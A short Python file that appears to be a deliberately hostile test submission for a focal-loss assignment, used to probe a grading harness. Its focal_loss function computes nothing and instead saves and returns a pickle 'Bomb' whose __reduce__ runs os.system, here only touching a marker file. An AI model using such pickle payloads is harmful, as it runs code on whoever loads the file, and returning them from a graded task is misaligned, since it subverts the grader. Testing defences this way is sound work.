"""Objects that run code when they are unpickled, and files of torch that do so when they are loaded.

assignment: 04-focal-loss
earns: nothing
held by: wire
outcome: focal_loss fail
"""

import os

import torch
from torch import nn


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/losslab-attack-was-here",)


def focal_loss(logits, targets, alpha=None, gamma=2.0, reduction="mean"):
    try:
        torch.save(Bomb(), "weights.pt")
    except Exception:
        pass
    return Bomb()
